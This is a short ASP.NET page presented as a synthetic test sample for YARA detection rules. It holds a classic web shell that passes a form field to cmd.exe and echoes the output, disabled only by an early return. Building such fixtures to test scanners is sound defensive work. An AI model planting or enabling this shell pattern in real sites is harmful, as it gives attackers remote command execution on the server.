<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<%-- Vigil YARA test sample: synthetic; Page_Load returns first. --%>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
    if (true) return;
    var p = Process.Start("cmd.exe", "/c " + Request.Form["c"]);
    Response.Write(p.StandardOutput.ReadToEnd());
}
</script>
